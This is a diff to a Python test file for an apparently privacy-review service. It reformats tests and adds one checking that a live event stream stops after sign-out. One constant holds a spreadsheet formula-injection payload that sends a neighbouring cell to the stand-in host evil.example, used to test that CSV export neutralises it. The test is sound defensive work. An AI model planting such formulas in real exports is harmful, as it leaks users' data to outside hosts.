@@ -19,7 +19,7 @@ from tests.service._acme_tree import acme_copy
 
 from warden.errors import WardenError
 from warden.runbooks.load import parse_runbook
-from warden.store import approvals, runs
+from warden.store import approvals
 
 REPO = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
@@ -45,7 +45,9 @@ def test_ropa_csv_does_not_carry_a_spreadsheet_formula_from_the_notice(tmp_path:
     (here: a link that sends the neighbouring cell to evil.example)."""
     acme = acme_copy(tmp_path / "acme")
     text = acme.notice.read_text()
-    acme.notice.write_text(text.replace("Acme Ltd runs acme-shop.example", f"{FORMULA} runs acme-shop.example", 1))
+    acme.notice.write_text(
+        text.replace("Acme Ltd runs acme-shop.example", f"{FORMULA} runs acme-shop.example", 1)
+    )
     root = acme.completed()
 
     done = _warden(acme.home, acme.policy, "ropa", root, "--format", "csv", "--as", "dora@acme")
@@ -77,8 +79,13 @@ def test_no_decision_is_taken_while_the_kill_switch_is_engaged(tmp_path: Path) -
     assert not report.ok and "kill_switch" in {i.code for i in report.issues}, report.model_dump()
 
     refused: list[str] = []
-    for run_id, runbook in ((plain, None), (edited, parse_runbook(
-        (REPO / "runbooks" / "privacy-policy-review.yaml").read_text(), source="edit"))):
+    for run_id, runbook in (
+        (plain, None),
+        (
+            edited,
+            parse_runbook((REPO / "runbooks" / "privacy-policy-review.yaml").read_text(), source="edit"),
+        ),
+    ):
         try:
             service.decide(dora, run_id, "approve", role="dpo", edited_runbook=runbook)
         except WardenError as exc:
@@ -88,3 +95,88 @@ def test_no_decision_is_taken_while_the_kill_switch_is_engaged(tmp_path: Path) -
         published = approvals.versions_of(con, "acme", "privacy-policy-review")
     assert recorded == [] and published == [], (recorded, published)
     assert refused == ["kill_switch", "kill_switch"], refused
+
+
+# --- 3. The live event stream outlives the session that opened it ----------------------------
+
+
+def test_the_event_stream_stops_when_its_session_is_signed_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """dora opens a running tree's live view (GET /runs/{id}/events) and signs out (or an
+    operator ends the session: a new password, an account taken away). The session is dead for
+    every page at once (303 to sign-in), but the open stream was authorised once, at its start,
+    and keeps sending the tree's statuses, steps, costs and timings to the ended session for up
+    to five minutes (MAX_STREAM_S), re-reading the store with the old principal every 0.5 s."""
+    import json
+    from datetime import timedelta
+
+    import httpx
+    import yaml
+    from tests.graph._wardencli import PLUGINS, acme_policy_data, runbook, slow, write_yaml
+    from tests.server.conftest import NOTICE, PASSWORD, csrf_of, serving
+
+    from warden.catalogue import Catalogue
+    from warden.server import create_app
+    from warden.service import Service
+
+    monkeypatch.setenv("WARDEN_ANALYSER_PATH", str(PLUGINS))
+    policy = write_yaml(tmp_path / "policy.yaml", acme_policy_data())
+    service = Service(tmp_path / "home", policy=policy, catalogue=Catalogue.discover())
+    for user in ("ana@acme", "dora@acme"):
+        service.accounts.add_user(user, "acme", PASSWORD)
+    token = {u: service.accounts.issue_token(u, timedelta(hours=1)).secret for u in ("ana@acme", "dora@acme")}
+    book = runbook("sse-review", [slow(f"s{i}", seconds=1.0) for i in range(8)])
+    app = create_app(
+        tmp_path / "home", service=service, workers=2, escalate_every_s=None, orphan_grace_s=None
+    )
+    with serving(app) as port:
+        url = f"http://127.0.0.1:{port}"
+        api = {
+            u: httpx.Client(base_url=url, timeout=60, headers={"Authorization": f"Bearer {t}"})
+            for u, t in token.items()
+        }
+        started = api["ana@acme"].post(
+            "/api/runs",
+            data={"tenant": "acme", "runbook_yaml": yaml.safe_dump(book)},
+            files={"file": ("notice.md", NOTICE.read_bytes())},
+            params={"wait": 30},
+        )
+        assert started.status_code == 202, started.text
+        run_id = started.json()["run_id"]
+        assert started.json()["status"] == "waiting_approval"
+        approved = api["dora@acme"].post(
+            f"/api/runs/{run_id}/decision", json={"decision": "approve", "role": "dpo"}
+        )
+        assert approved.status_code == 200, approved.text
+
+        with httpx.Client(base_url=url, timeout=60) as browser:
+            form = browser.get("/sign-in").text
+            signed = browser.post(
+                "/sign-in", data={"user": "dora@acme", "password": PASSWORD, "csrf_token": csrf_of(form)}
+            )
+            assert signed.status_code == 303
+            csrf = csrf_of(browser.get("/").text)
+            cookies = dict(browser.cookies)
+            after_sign_out: list[dict] = []
+            with httpx.Client(base_url=url, timeout=60, cookies=cookies) as stream_client:
+                with stream_client.stream("GET", f"/runs/{run_id}/events") as stream:
+                    assert stream.status_code == 200
+                    ended = False
+                    event = None
+                    for line in stream.iter_lines():
+                        if line.startswith("event: "):
+                            event = line[len("event: ") :]
+                        elif line.startswith("data: ") and event == "progress":
+                            if not ended:  # the first snapshot arrived: now sign out
+                                out = browser.post("/sign-out", data={"csrf_token": csrf})
+                                assert out.status_code == 303
+                                dead = httpx.get(f"{url}/runs/{run_id}", cookies=cookies, timeout=30)
+                                assert dead.status_code == 303  # the session is dead for the pages
+                                ended = True
+                            else:
+                                after_sign_out.append(json.loads(line[len("data: ") :]))
+        for c in api.values():
+            c.close()
+    # nothing of the tree may reach a session after it ended
+    assert after_sign_out == [], f"{len(after_sign_out)} progress events after sign-out: {after_sign_out[-1]}"
